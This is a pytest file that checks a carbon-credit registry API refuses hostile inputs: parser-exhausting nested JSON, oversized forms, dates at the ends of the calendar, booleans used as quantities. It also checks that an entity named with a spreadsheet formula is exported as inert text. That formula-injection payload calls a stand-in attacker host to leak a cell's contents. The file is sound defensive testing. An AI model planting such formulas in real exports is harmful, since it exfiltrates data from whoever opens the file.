"""Hostile input, from the attacker's side: bodies nested deep enough to exhaust a parser,
dates at the ends of the calendar, booleans posing as quantities. Each is a 4xx problem
document naming the field and a numbered check, and changes nothing."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from fastapi.testclient import TestClient
from http_world import Api, HttpWorld, build_world, ok

from article6.app import create_hub_app
from article6.interop.hub import Hub
from article6.interop.transport import MESSAGES_PATH
from article6.services.context import Registry

YEAR = "2025"
NESTED = b"[" * 5000 + b"]" * 5000
PROBLEM = "application/problem+json"


@pytest.fixture
def world(api: Api) -> HttpWorld:
    """Only the secretariat and the administrators are needed here."""
    return build_world(api, everyone=False)


def refused(response: object, status: int, check: str, field: str) -> None:
    assert response.status_code == status, response.text  # type: ignore[attr-defined]
    assert response.headers["content-type"] == PROBLEM  # type: ignore[attr-defined]
    first = response.json()["checks"][0]  # type: ignore[attr-defined]
    assert (first["check"], first["field"]) == (check, field), first


def journal_length(world: HttpWorld) -> int:
    entries = world.api["secretariat.admin"].get("/api/v1/journal?limit=500").json()["items"]
    return len([e for e in entries if e["event"] not in ("SignedIn", "SignInFailed")])


def test_a_deeply_nested_body_is_refused_before_sign_in_or_parsing(world: HttpWorld):
    client = world.api.client
    before = journal_length(world)
    json_type = {"Content-Type": "application/json"}
    signed = {**json_type, **world.api["xxa.admin"].headers}
    for path, headers in (
        ("/api/v1/session", json_type),
        ("/api/v1/tokens", json_type),
        ("/api/v1/parties/XXA/transfers", json_type),
        ("/api/v1/parties/XXA/transfers", signed),
        ("/sign-in", json_type),
    ):
        refused(client.post(path, content=NESTED, headers=headers), 400, "C1016", "body")
    inside = b'{"units": ' + NESTED + b"}"
    response = client.post("/api/v1/parties/XXA/transfers", content=inside, headers=signed)
    refused(response, 400, "C1016", "body")
    assert journal_length(world) == before


def test_brackets_inside_strings_are_not_nesting(world: HttpWorld):
    """A title full of brackets is text: it reaches the checks like any other."""
    response = world.api["xxa.admin"].post(
        "/api/v1/parties/XXA/mitigation-activities",
        {"title": '[[[{{{"\\"' * 200, "cooperative_approach": "CA0001"},
    )
    assert response.status_code == 422
    assert {c["check"] for c in response.json()["checks"]} != {"C1016"}


def test_an_oversized_form_is_refused_before_it_is_parsed(world: HttpWorld):
    """Refused before it is read, in words on a page (a person posted it), naming the field."""
    response = world.api.client.post(
        "/sign-in",
        content=b"name=" + b"a" * (2 * 1024 * 1024),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert response.status_code == 413
    assert response.headers["content-type"].startswith("text/html")
    words = re.sub(r"<[^>]+>", "", response.text)
    assert "C1014 Request size — a request body is at most 1,048,576 bytes" in words
    assert "(field: body)" in words


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("start=0001-01-01&end=2025-01-01", "start"),
        ("start=2025-01-01&end=9999-12-31", "end"),
        ("start=0001-01-01&end=9999-12-31", "start"),
    ],
)
def test_statements_at_the_ends_of_the_calendar_are_refused(
    world: HttpWorld, query: str, field: str
):
    account = world["XXA Party mo_holding"]
    for rendering in ("json", "csv", "html"):
        response = world.api["xxa.admin"].get(
            f"/api/v1/parties/XXA/accounts/{account}/statement?{query}&format={rendering}"
        )
        refused(response, 422, "C1009", field)


@pytest.mark.parametrize(
    "instant",
    ["0001-01-01T00:00:00", "0001-01-01T00:00:00%2B14:00", "9999-12-31T23:59:59-12:00"],
)
def test_instants_at_the_ends_of_the_calendar_are_refused(world: HttpWorld, instant: str):
    xxa = world.api["xxa.admin"]
    for path in (
        "/api/v1/parties/XXA/transactions",
        "/api/v1/parties/XXA/first-transfers",
        "/api/v1/parties/XXA/journal",
    ):
        for name in ("since", "until"):
            refused(xxa.get(f"{path}?{name}={instant}"), 422, "C1009", name)
    secretariat = world.api["secretariat.admin"]
    refused(secretariat.get(f"/api/v1/journal?until={instant}"), 422, "C1009", "until")


def test_dates_of_records_at_the_ends_of_the_calendar_are_refused(world: HttpWorld):
    before = journal_length(world)
    response = world.api["xxa.admin"].post(
        "/api/v1/parties/XXA/entities",
        {
            "name": "Early Bird",
            "country_of_incorporation": "XXA",
            "identification_number": "E-1",
            "cooperative_approach": "CA0001",
            "date_of_authorization": "0001-01-01",
        },
    )
    refused(response, 422, "C1009", "date_of_authorization")
    assert journal_length(world) == before


def test_a_statement_over_an_ordinary_period_still_answers(world: HttpWorld):
    account = world["XXA Party mo_holding"]
    statement = ok(
        world.api["xxa.admin"].get(
            f"/api/v1/parties/XXA/accounts/{account}/statement?start=2021-01-01&end=2199-12-31"
        ),
        200,
    )
    assert (
        statement["closing"]
        == statement["opening"] + statement["total_in"] - statement["total_out"]
    )


def test_a_rogue_registry_cannot_crash_the_hub_with_nesting(registry: Registry):
    """The protocol's door holds the same limit: a parser never meets the 5000 levels."""
    hub = TestClient(create_hub_app(Hub.open(registry)))  # no lifespan: no delivery loop
    response = hub.post(MESSAGES_PATH, content=NESTED, headers={"Content-Type": "application/json"})
    refused(response, 400, "C1016", "body")


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'


def test_an_entity_named_like_a_formula_is_text_in_every_aef_export(world: HttpWorld):
    """A Party administrator names an entity `=HYPERLINK(...)`: whoever opens the AEF in a
    spreadsheet sees the name, and nothing is evaluated."""
    xxa = world.api["xxa.admin"]
    ok(
        xxa.post(
            "/api/v1/parties/XXA/entities",
            {
                "name": FORMULA,
                "country_of_incorporation": "XXA",
                "identification_number": "@SUM(1+1)",
                "cooperative_approach": "CA0001",
                "date_of_authorization": "2025-06-01",
            },
        )
    )
    zipped = xxa.get(f"/api/v1/parties/XXA/aef/{YEAR}?format=csv")
    assert zipped.status_code == 200, zipped.text
    with zipfile.ZipFile(io.BytesIO(zipped.content)) as bundle:
        cells = [
            cell
            for name in bundle.namelist()
            for row in csv.reader(io.StringIO(bundle.read(name).decode("utf-8-sig")))
            for cell in row
        ]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    workbook = xxa.get(f"/api/v1/parties/XXA/aef/{YEAR}?format=xlsx")
    assert workbook.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(workbook.content))
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == FORMULA
    ]
    assert found and all(cell.data_type == "s" for cell in found)
    assert not [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]


def test_true_is_not_a_quantity_for_any_command(world: HttpWorld):
    """`"quantity": true` was taken as 1 unit (Python's bool is an int): now a C1005."""
    xxa = world.api["xxa.admin"]
    before = journal_length(world)
    selection = {"quantity": True}
    cases = [
        (
            "transfers",
            {
                "source_account": world["XXA Party mo_holding"],
                "destination_account": world["XXA Green Group A mo_holding"],
                "units": selection,
            },
            "units.quantity",
        ),
        (
            "issuances",
            {"mitigation_activity": world.activity, "vintage": 2024, "quantity": True},
            "quantity",
        ),
        (
            "uses",
            {"source_account": world["XXA Party mo_holding"], "ndc_year": 2025, "units": selection},
            "units.quantity",
        ),
        (
            "cancellations",
            {
                "source_account": world["XXA Party mo_holding"],
                "purpose": "voluntary",
                "units": selection,
            },
            "units.quantity",
        ),
        (
            "transfers",
            {
                "source_account": world["XXA Party mo_holding"],
                "destination_account": world["XXA Green Group A mo_holding"],
                "units": {"ranges": [{"registry": "XXA01", "first": True, "last": True}]},
            },
            "units.ranges.0.first",
        ),
    ]
    for route, body, field in cases:
        refused(xxa.post(f"/api/v1/parties/XXA/{route}", body), 422, "C1005", field)
    issued = {"mitigation_activity": world.activity, "vintage": False, "quantity": 5}
    refused(xxa.post("/api/v1/parties/XXA/issuances", issued), 422, "C1006", "vintage")
    assert journal_length(world) == before
    assert ok(world.api["secretariat.admin"].get("/api/v1/verification"), 200)["sound"] is True
